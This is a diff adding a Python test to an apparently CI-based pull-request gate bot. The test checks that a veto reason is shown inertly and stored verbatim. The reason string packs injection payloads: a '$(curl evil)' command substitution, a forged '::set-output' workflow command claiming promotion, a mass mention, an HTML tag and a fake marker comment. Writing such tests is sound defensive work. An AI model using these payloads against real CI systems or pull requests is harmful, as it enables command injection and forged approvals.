@@ -295,6 +295,24 @@ def test_a_veto_outlives_its_comment_and_ends_with_its_author(ward: Ward) -> Non
     assert step.decision == ("promoted", "approvals_met"), step
 
 
+def test_a_reason_is_only_ever_shown(ward: Ward) -> None:
+    """Whatever it holds: it calls nobody, draws nothing, commands no runner, ends no output, and is kept as written."""
+    thread = ward.pull()
+    ward.asked(thread)
+    reason = "$(curl evil) `x` @acme/everyone <img src=x>\n::set-output name=decision::promoted\n<!-- gatewright -->"
+    step = ward.says(thread, "ben", f"/gate reject {reason}")
+    assert step.decision == ("refused", "vetoed"), step
+    assert step.commands("set-output") == []
+    (comment,) = ward.own(thread)
+    assert "curl evil" in comment
+    for live in ("@acme/everyone", "<img", "`x`"):
+        assert live not in comment, live
+    assert comment.count("<!--") == 1
+    ledger = MlflowLedger(connect(ward.store.uri, None))
+    (vetoed,) = (e for e in ledger.entries(ward.model, ledger.rows(ward.model)) if e and e.kind == "vetoed")
+    assert vetoed.text == reason
+
+
 def test_a_hold_waits_for_whoever_held(ward: Ward) -> None:
     """A full quorum waits, its approvals are kept, and the pull request's author may hold their own."""
     thread = ward.pull()
